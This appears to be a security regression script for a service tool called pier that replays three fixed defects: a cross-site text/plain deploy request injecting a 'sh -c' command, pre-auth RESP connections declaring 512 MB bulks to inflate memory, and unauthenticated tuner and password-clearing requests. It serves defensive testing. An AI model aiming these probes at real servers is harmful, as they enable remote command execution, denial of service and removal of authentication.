"""The three defects the network-safety work fixed, tried against one pier binary:
    /usr/bin/python3 tests/repro/security_defects.py build/release/bin/pier
1. a web page's cross-site text/plain POST /v1/deploy to `pier up` (does its command run?),
2. four RESP connections that each declare a 512 MB bulk before AUTH (RSS while open, after),
3. POST /perf/tuner without a token, and CONFIG SET requirepass "" on a 0.0.0.0 listener.
An older binary shows what they did before; the end-to-end tests in test_security.py assert
the fixed behaviour."""
import os, socket, subprocess, sys, tempfile, time, pathlib
import requests

PIER = sys.argv[1]
env = dict(os.environ, PATH=os.path.dirname(PIER) + ":" + os.environ["PATH"])
env.pop("PIER_TOKEN", None)

def start(args):
    p = subprocess.Popen([PIER, *args], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=env)
    line = p.stdout.readline()
    ports = dict(kv.split("=", 1) for kv in line.split()[1:]) if line.startswith("listening") else {}
    return p, ports, line

def rss_kb(pid):
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1])

tmp = pathlib.Path(tempfile.mkdtemp())
# 1. cross-site text/plain POST /v1/deploy
spec = tmp / "pier.yaml"
spec.write_text("""name: sec
platform: {proxy: {listen: 127.0.0.1:0}}
services:
  api:
    command: [pier, demo-service, --listen, "127.0.0.1:${PORT}", --name, api]
    health: {http: /health, interval: 300ms, timeout: 1s, retries: 1}
routes:
  - {path_prefix: /, service: api}
""")
p, ports, line = start(["up", str(spec), "--http", "127.0.0.1:0", "--data-dir", str(tmp / "data")])
mark = tmp / "pwned"
evil = spec.read_text().replace("command: [pier, demo-service", f"command: [sh, -c, 'touch {mark}; exec pier demo-service'").replace("name: api]", "name: api, --version, v2]").replace("    health", "    version: v2\n    health")
time.sleep(3)
r = requests.post(f"http://{ports['http']}/v1/deploy", data=evil, headers={"Origin": "https://attacker.example", "Content-Type": "text/plain"}, timeout=10)
end = time.time() + 10
while time.time() < end and not mark.exists(): time.sleep(0.1)
print(f"1. cross-site text/plain POST /v1/deploy: HTTP {r.status_code}; the page's command ran: {mark.exists()}")
p.terminate(); p.wait()

# 2. 4 connections declaring a 512 MB bulk before AUTH
p, ports, line = start(["cache", "--listen", "127.0.0.1:0", "--http", "127.0.0.1:0", "--data-dir", str(tmp / "c")])
host, port = ports["resp"].rsplit(":", 1)
time.sleep(0.5)
idle = rss_kb(p.pid)
socks = []
for _ in range(4):
    s = socket.create_connection((host, int(port)))
    s.sendall(b"*1\r\n$536870000\r\n")
    socks.append(s)
time.sleep(2)
held = rss_kb(p.pid)
for s in socks: s.close()
time.sleep(2)
after = rss_kb(p.pid)
print(f"2. 4 connections sending *1\\r\\n$536870000\\r\\n: RSS +{(held-idle)//1024} MB while open, +{(after-idle)//1024} MB after they closed")

# 3. POST /perf/tuner with no token; CONFIG SET requirepass "" on a public bind
r = requests.post(f"http://{ports['http']}/perf/tuner", json={"knob": "cache.maxmemory", "value": "1"}, timeout=10)
print(f"3a. POST /perf/tuner without a token: HTTP {r.status_code}")
p.terminate(); p.wait()
p, ports, line = start(["cache", "--listen", "0.0.0.0:0", "--requirepass", "s3cret", "--http", "127.0.0.1:0", "--data-dir", str(tmp / "d")])
if not ports:
    print(f"3b. could not start on 0.0.0.0: {line.strip()}")
else:
    port = ports["resp"].rsplit(":", 1)[1]
    out = subprocess.run(["redis-cli", "-p", port, "-a", "s3cret", "--no-auth-warning", "CONFIG", "SET", "requirepass", ""], capture_output=True, text=True)
    print(f"3b. CONFIG SET requirepass \"\" on 0.0.0.0: {out.stdout.strip()}")
    p.terminate(); p.wait()
